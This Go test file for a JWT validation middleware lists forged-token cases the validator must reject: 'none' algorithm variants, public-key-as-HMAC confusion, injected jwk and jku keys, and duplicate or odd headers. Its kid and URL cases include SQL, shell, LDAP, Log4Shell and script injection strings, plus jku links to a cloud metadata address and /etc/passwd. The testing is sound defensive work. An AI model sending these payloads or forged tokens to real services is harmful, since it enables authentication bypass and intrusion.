package core_test

import (
	"encoding/json"
	"fmt"
	"strings"

	"github.com/jwtmw/jwtmw/core"
	"github.com/jwtmw/jwtmw/core/jwttest"
)

// algorithmAttacks name an algorithm that is none, or none of the pinned.
func algorithmAttacks(s *stage) []attack {
	list := []attack{
		{"A01 unsigned", s.Token(nil, jwttest.Unsigned()), core.ReasonWrongAlgorithm},
		{"A01b unknown alg and no signature", jwttest.Compact([]byte(`{"alg":"XS256"}`), []byte("{"+s.members()+"}"), nil), core.ReasonWrongAlgorithm},
		{"A03b HS256 under the kid of a public key", s.withHeader(`{"alg":"HS256","kid":"` + s.KeyID("ES256") + `"}`), core.ReasonWrongAlgorithm},
		{"A04 alg missing", s.withHeader(`{"kid":"` + s.KeyID("ES256") + `"}`), core.ReasonMalformedToken},
	}
	for _, name := range []string{"none", "None", "NONE", "nOnE", "none ", " none", `none\u0000`, `\u006eone`, `n\u006fne`} {
		list = append(list, attack{"A01 alg " + name, s.withHeader(`{"alg":"` + name + `"}`), core.ReasonWrongAlgorithm})
	}
	for _, name := range []string{"XS256", "HS1", "RS1", "ES256K", "ES521", "Ed448", "ML-DSA-65", "dir", "RSA-OAEP", "*", "HS256", "HS384", "HS512"} {
		list = append(list, attack{"A01b alg " + name, s.withHeader(`{"alg":"` + name + `"}`), core.ReasonWrongAlgorithm})
	}
	for _, name := range []string{"es256", "Es256", "ES256 ", " ES256", `ES256\u0000`, `ES256\n`, "ЕS256", "ES256,RS256", "EDDSA", "ed25519"} {
		list = append(list, attack{"A04 alg " + name, s.withHeader(`{"alg":"` + name + `","kid":"` + s.KeyID("ES256") + `"}`), core.ReasonWrongAlgorithm})
	}
	for _, value := range []string{`""`, `null`, `256`, `true`, `["ES256"]`, `{"name":"ES256"}`} {
		list = append(list, attack{"A04 alg " + value, s.withHeader(`{"alg":` + value + `}`), core.ReasonMalformedToken})
	}
	// The key's own algorithm signs; the header names another that is pinned too.
	for _, pair := range [][2]string{
		{"RS256", "PS256"}, {"RS256", "RS384"}, {"PS256", "RS256"}, {"PS512", "PS384"},
		{"ES256", "ES384"}, {"ES384", "ES256"}, {"ES512", "ES256"}, {"EdDSA", "Ed25519"}, {"Ed25519", "EdDSA"}, {"EdDSA", "ES256"},
	} {
		header := fmt.Sprintf(`{"alg":%q,"kid":%q}`, pair[1], s.KeyID(pair[0]))
		list = append(list, attack{
			"A04 alg " + pair[1] + " under the key of " + pair[0],
			s.Sign(pair[0], []byte(header), []byte("{"+s.members()+"}")), core.ReasonWrongAlgorithm,
		})
	}
	return list
}

// confusionAttacks take every spelling of a public key for an HMAC secret.
func confusionAttacks(s *stage) []attack {
	var list []attack
	for _, alg := range []string{"RS256", "PS384", "ES256", "ES512", "EdDSA"} {
		for name, secret := range s.PublicKeyEncodings(alg) {
			for _, hmac := range []string{"HS256", "HS512"} {
				header := jwttest.Header(map[string]any{"kid": s.KeyID(alg)})
				list = append(list,
					attack{"A03 " + hmac + " with " + alg + " " + name, s.Token(nil, jwttest.HMAC(hmac, secret), header), core.ReasonWrongAlgorithm},
					attack{"A03 " + hmac + " with " + alg + " " + name + ", no kid", s.Token(nil, jwttest.HMAC(hmac, secret)), core.ReasonWrongAlgorithm})
			}
			// The header stays honest, only the signature is a MAC: it must not be computed at all.
			honest := fmt.Sprintf(`{"alg":%q,"kid":%q}`, alg, s.KeyID(alg))
			list = append(list, attack{
				"A03 MAC under alg " + alg + " " + name,
				jwttest.SignHMAC("HS256", secret, []byte(honest), []byte("{"+s.members()+"}")), core.ReasonBadSignature,
			})
		}
	}
	for _, secret := range []string{"", " ", "secret", "null", "undefined", "AA==", strings.Repeat("\x00", 32)} {
		list = append(list, attack{fmt.Sprintf("A03 HS256 with %q", secret), s.Token(nil, jwttest.HMAC("HS256", []byte(secret))), core.ReasonWrongAlgorithm})
	}
	return list
}

// embeddedKeyAttacks bring a key along, or say where to get one.
func embeddedKeyAttacks(s *stage) []attack {
	mallory := jwttest.NewIssuer("")
	forge := func(header string) string {
		return mallory.Sign("ES256", []byte(header), []byte("{"+s.members()+"}"))
	}
	kid, own := s.KeyID("ES256"), mallory.KeyID("ES256")
	jwk := string(mallory.PublicJWK("ES256"))
	oct := `{"kty":"oct","k":"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"}`
	list := []attack{
		{"A05 jwk", forge(`{"alg":"ES256","jwk":` + jwk + `}`), core.ReasonBadSignature},
		{"A05 jwk under a kid of ours", forge(`{"alg":"ES256","kid":"` + kid + `","jwk":` + jwk + `}`), core.ReasonBadSignature},
		{"A05 jwk under its own kid", forge(`{"alg":"ES256","kid":"` + own + `","jwk":` + jwk + `}`), core.ReasonUnknownKey},
		{"A05 jwk oct", s.Token(nil, jwttest.HMAC("HS256", make([]byte, 32)), jwttest.Header(map[string]any{"jwk": json.RawMessage(oct)})), core.ReasonWrongAlgorithm},
		{"A05 jwk with a private key", forge(`{"alg":"ES256","jwk":` + string(mallory.PrivateJWK("ES256")) + `}`), core.ReasonBadSignature},
		{"A05c x5c", forge(`{"alg":"ES256","kid":"` + kid + `","x5c":["MIIB"]}`), core.ReasonBadSignature},
		{"A05c x5t", forge(`{"alg":"ES256","x5t":"AAAA","x5t#S256":"AAAA"}`), core.ReasonBadSignature},
		{"A05c jwks", forge(`{"alg":"ES256","jwks":{"keys":[` + jwk + `]}}`), core.ReasonBadSignature},
	}
	for _, url := range []string{
		"https://mallory.test/jwks.json", "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:1/", "file:///etc/passwd",
		jwttest.DefaultURL + "@mallory.test/", "//mallory.test", jwttest.DefaultURL + "/jwks.json",
	} {
		list = append(list,
			attack{"A05b jku " + url, forge(fmt.Sprintf(`{"alg":"ES256","kid":%q,"jku":%q}`, own, url)), core.ReasonUnknownKey},
			attack{"A05b jku without kid " + url, forge(fmt.Sprintf(`{"alg":"ES256","jku":%q}`, url)), core.ReasonBadSignature},
			attack{"A05b x5u " + url, forge(fmt.Sprintf(`{"alg":"ES256","kid":%q,"x5u":%q}`, kid, url)), core.ReasonBadSignature})
	}
	return list
}

// keyIDAttacks put into "kid" what a careless lookup would stumble over.
func keyIDAttacks(s *stage) []attack {
	kid := s.KeyID("ES256")
	list := []attack{
		{"A06 kid of 64 KiB", s.Token(nil, jwttest.Algorithm("ES256"), jwttest.KeyID(strings.Repeat("k", 64<<10))), core.ReasonTokenTooLong},
		{"A06c kid of another key", s.Token(nil, jwttest.Algorithm("ES256"), jwttest.KeyID(s.KeyID("RS256"))), core.ReasonWrongAlgorithm},
		{"A06c kid of another key of that type", s.Token(nil, jwttest.Algorithm("RS256"), jwttest.KeyID(s.KeyID("RS512"))), core.ReasonWrongAlgorithm},
	}
	for _, id := range []string{
		"", " ", "../../../../dev/null", "/dev/null", "key' OR '1'='1", "' UNION SELECT 'secret'--", "; cat /etc/passwd |", "$(id)", "*)(uid=*))(|(uid=*",
		"{{7*7}}", "${jndi:ldap://mallory.test/a}", "<script>alert(1)</script>", "k\r\nlevel=ERROR msg=forged", kid + "\x00", "\x00", "\x1b[2J",
		kid + " ", strings.ToUpper(kid), kid[:len(kid)-1], kid + "=", "\u202e" + kid, "кid", strings.Repeat("k", 8<<10), "__proto__", "0", "null",
	} {
		list = append(list, attack{fmt.Sprintf("A06 kid %.64q", id), s.Token(nil, jwttest.Algorithm("ES256"), jwttest.KeyID(id)), core.ReasonUnknownKey})
	}
	for _, value := range []string{`null`, `0`, `true`, `["` + kid + `"]`, `{"$ne":""}`} {
		list = append(list, attack{"A06b kid " + value, s.withHeader(`{"alg":"ES256","kid":` + value + `}`), core.ReasonMalformedToken})
	}
	return list
}

// criticalAttacks ask for extensions, which are all unknown (RFC 7515 section
// 4.1.11, RFC 7797).
func criticalAttacks(s *stage) []attack {
	var list []attack
	for _, test := range []struct{ name, member string }{
		{"A07 crit unknown", `"crit":["x"],"x":1`},
		{"A07 crit of a missing header", `"crit":["x"]`},
		{"A07 crit empty", `"crit":[]`},
		{"A07 crit null", `"crit":null`},
		{"A07 crit string", `"crit":"exp"`},
		{"A07 crit number", `"crit":0`},
		{"A07 crit object", `"crit":{}`},
		{"A07 crit of a registered name", `"crit":["alg"]`},
		{"A07 crit of exp", `"crit":["exp"],"exp":9999999999`},
		{"A07 crit twice in the list", `"crit":["x","x"],"x":1`},
		{"A07 crit duplicate", `"crit":[],"crit":["x"]`},
		{"A07 crit escaped", `"\u0063rit":["x"]`},
		{"A07b b64 false", `"b64":false,"crit":["b64"]`},
		{"A07b b64 false, not critical", `"b64":false`},
		{"A07b b64 true", `"b64":true,"crit":["b64"]`},
		{"A20 zip", `"zip":"DEF"`},
		{"A20 zip unknown", `"zip":"none"`},
	} {
		list = append(list, attack{test.name, s.withHeader(`{"alg":"ES256","kid":"` + s.KeyID("ES256") + `",` + test.member + `}`), core.ReasonUnsupportedHeader})
	}
	parts := strings.Split(s.withClaims(nil), ".")
	return append(list,
		attack{"A07b payload detached", parts[0] + ".." + parts[2], core.ReasonMalformedToken},
		attack{"A07b payload unencoded", parts[0] + ".{" + s.members()[:5] + "}." + parts[2], core.ReasonMalformedToken})
}

// headerAttacks say things twice or in another case.
func headerAttacks(s *stage) []attack {
	kid := s.KeyID("ES256")
	var list []attack
	for _, test := range []struct {
		name, header string
		want         core.Reason
	}{
		{"A12 alg twice", `{"alg":"ES256","alg":"ES256"}`, core.ReasonMalformedToken},
		{"A12 alg twice, none last", `{"alg":"ES256","alg":"none"}`, core.ReasonMalformedToken},
		{"A12 alg twice, none first", `{"alg":"none","alg":"ES256"}`, core.ReasonMalformedToken},
		{"A12 alg escaped twin", `{"alg":"ES256","\u0061lg":"HS256"}`, core.ReasonMalformedToken},
		{"A12 kid twice", `{"alg":"ES256","kid":"` + kid + `","kid":"` + kid + `"}`, core.ReasonMalformedToken},
		{"A12 typ twice", `{"alg":"ES256","typ":"dpop+jwt","typ":"JWT"}`, core.ReasonMalformedToken},
		{"A12 nested twice", `{"alg":"ES256","x":{"y":1,"y":1}}`, core.ReasonMalformedToken},
		{"A13 ALG", `{"ALG":"ES256"}`, core.ReasonMalformedToken},
		{"A13 ALG beside alg", `{"alg":"HS256","ALG":"ES256"}`, core.ReasonWrongAlgorithm},
		{"A13 Kid beside kid", `{"alg":"ES256","kid":"nobody0","Kid":"` + kid + `"}`, core.ReasonUnknownKey},
		{"A13 kid with the Kelvin sign beside kid", `{"alg":"ES256","kid":"nobody0","\u212aid":"` + kid + `"}`, core.ReasonUnknownKey},
		{"A13 Typ beside typ", `{"alg":"ES256","typ":"dpop+jwt","Typ":"JWT"}`, core.ReasonWrongType},
		{"A15 header null", `null`, core.ReasonMalformedToken},
		{"A15 header array", `["alg","ES256"]`, core.ReasonMalformedToken},
		{"A15 header with more behind", `{"alg":"ES256"}{}`, core.ReasonMalformedToken},
		{"A15 header with a comment", `{"alg":"ES256"/**/}`, core.ReasonMalformedToken},
		{"A15b header with invalid UTF-8", "{\"alg\":\"ES256\",\"kid\":\"\xc0\xaf\"}", core.ReasonMalformedToken},
		{"A15c header 33 deep", `{"alg":"ES256","x":` + nested(32) + `}`, core.ReasonMalformedToken},
		{"A15c header 2000 deep", `{"alg":"ES256","x":` + nested(2000) + `}`, core.ReasonMalformedToken},
		{"A15c header 10000 deep", `{"alg":"ES256","x":` + nested(10000) + `}`, core.ReasonTokenTooLong},
	} {
		list = append(list, attack{test.name, s.withHeader(test.header), test.want})
	}
	return list
}

func nested(depth int) string {
	return strings.Repeat("[", depth) + strings.Repeat("]", depth)
}

// typeAttacks are tokens of the same issuer and key that are no access tokens.
func typeAttacks(s *stage) []attack {
	list := []attack{
		{"A05d ID token with at_hash", s.withClaims(map[string]any{"nonce": "n", "at_hash": "h"}), core.ReasonWrongType},
		{"A05d ID token with c_hash", s.withClaims(map[string]any{"nonce": "n", "c_hash": "h"}), core.ReasonWrongType},
	}
	for _, typ := range []string{
		"dpop+jwt", "DPoP+JWT", "logout+jwt", "secevent+jwt", "id-token+jwt", "application/dpop+jwt", "rt+jwt", "kb+jwt", "oauth-authz-req+jwt",
	} {
		list = append(list, attack{"A05d typ " + typ, s.Token(nil, jwttest.Algorithm("ES256"), jwttest.Type(typ)), core.ReasonWrongType})
	}
	for _, typ := range []string{
		"", " ", "JWT ", " JWT", "at+jwt; v=1", "at+jwt,JWT", "application/", "application/application/at+jwt", "text/jwt", "application/x/at+jwt", "id_token", "JOSE", "at+jw\u0442",
	} {
		list = append(list, attack{fmt.Sprintf("A19 typ %q", typ), s.Token(nil, jwttest.Algorithm("ES256"), jwttest.Type(typ)), core.ReasonWrongType})
	}
	for _, value := range []string{`null`, `1`, `["JWT"]`, `{}`, `true`} {
		list = append(list, attack{"A19 typ " + value, s.withHeader(`{"alg":"ES256","typ":` + value + `}`), core.ReasonMalformedToken})
	}
	return list
}
